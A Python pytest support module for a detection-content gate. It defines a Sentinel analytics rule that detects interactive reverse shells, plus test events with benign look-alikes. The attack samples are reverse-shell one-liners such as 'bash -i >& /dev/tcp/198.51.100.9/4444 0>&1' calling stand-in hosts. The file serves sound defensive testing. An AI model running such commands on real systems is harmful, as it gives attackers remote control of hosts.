"""The content gate's test project: a tiny store, a Sentinel analytics rule template and its
test data, shared by the content gate's pytester tests."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
WHEN = "2026-03-05T10:00:00Z"
#: The look-alike comes three hours after the attack: another hourly run.
LATER = "2026-03-05T13:00:00Z"

#: The tiny store: one attack and one look-alike (a hard negative) in DeviceProcessEvents.
EVENTS = {
    "attack/sim_shell/DeviceProcessEvents.jsonl": [
        {
            "ReportId": 482913377104,
            "Timestamp": WHEN,
            "DeviceName": "app-01",
            "AccountName": "svc-app",
            "FolderPath": "/usr/bin/bash",
            "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
        }
    ],
    "benign/sim_shell/DeviceProcessEvents.jsonl": [
        {
            "ReportId": 300918273645,
            "Timestamp": LATER,
            "DeviceName": "app-01",
            "AccountName": "deploy",
            "FolderPath": "/usr/bin/bash",
            "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432'",
        }
    ],
}


def write_telemetry(root: Path) -> Path:
    """The real schemas and dataset.yaml with the tiny store's events (built with rows=0)."""
    shutil.copytree(ROOT / "telemetry" / "schemas", root / "schemas")
    shutil.copy(ROOT / "telemetry" / "dataset.yaml", root / "dataset.yaml")
    for relative, rows in EVENTS.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return root


RULE = """\
id: 3f6f1c7e-5b0a-4d4e-9a57-0c1d2e3f4a5b
name: Interactive reverse shell
description: An interactive shell redirected to a TCP connection.
severity: High
requiredDataConnectors:
  - connectorId: {connector}
    dataTypes:
      - DeviceProcessEvents
queryFrequency: 1h
queryPeriod: 1h
triggerOperator: gt
triggerThreshold: {threshold}
tactics:
  - {tactic}
relevantTechniques:
  - T1059.004
query: |
  DeviceProcessEvents
  | where ProcessCommandLine has "/dev/tcp/"{condition}
  | project Timestamp, DeviceName, AccountName, ProcessCommandLine, ReportId
entityMappings:
  - entityType: Host
    fieldMappings:
      - identifier: HostName
        columnName: {host_column}
kind: Scheduled
"""
STRICT = '\n  | where ProcessCommandLine matches regex @"bash\\s+-[a-z]*i"'
MATCH_CSV = """\
Timestamp [UTC],DeviceName,AccountName,ProcessCommandLine,AdditionalFields
2025-11-04T14:02:11.000Z,app-07,svc-tomcat,"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1","{""a"": 1}"
"11/4/2025, 2:09:40.000 PM",app-07,svc-tomcat,"/bin/bash -li >& /dev/tcp/203.0.113.50/443 0>&1",
"""
NOMATCH = {
    "Timestamp": "2025-11-04T13:55:00Z",
    "DeviceName": "app-07",
    "AccountName": "deploy",
    "ProcessCommandLine": "bash -c 'echo > /dev/tcp/db-01/5432 && echo open'",
}


def rule(**changes: object) -> str:
    values = {
        "connector": "MicrosoftThreatProtection",
        "threshold": 0,
        "tactic": "Execution",
        "condition": STRICT,
        "host_column": "DeviceName",
    }
    values.update(changes)
    return RULE.format(**values)


def add_rule(
    project: pytest.Pytester,
    name: str,
    text: str,
    *,
    match: str | None = MATCH_CSV,
    nomatch: dict | None = NOMATCH,
    settings: str | None = None,
) -> Path:
    path = project.path / "detections" / f"{name}.yaml"
    path.write_text(text)
    tests = path.with_name(f"{name}.tests")
    if match is not None:
        (tests / "match").mkdir(parents=True)
        (tests / "match" / "DeviceProcessEvents.csv").write_text(match)
    if nomatch is not None:
        (tests / "nomatch").mkdir(parents=True, exist_ok=True)
        (tests / "nomatch" / "DeviceProcessEvents.jsonl").write_text(json.dumps(nomatch) + "\n")
    if settings is not None:
        tests.mkdir(exist_ok=True)
        (tests / "tests.yaml").write_text(settings)
    return path


def content_project(pytester: pytest.Pytester, store_cache: Path) -> pytest.Pytester:
    """*pytester* as a content repository: a ``detections/`` folder, the session's store cache,
    and stores built without background rows (the telemetry is written by the caller)."""
    (pytester.path / "detections").mkdir()
    pytester.makeini(f"""
        [pytest]
        testpaths = detections
        addopts = --realm-cache-dir={store_cache} --realm-rows=0 -p no:cacheprovider
    """)
    return pytester
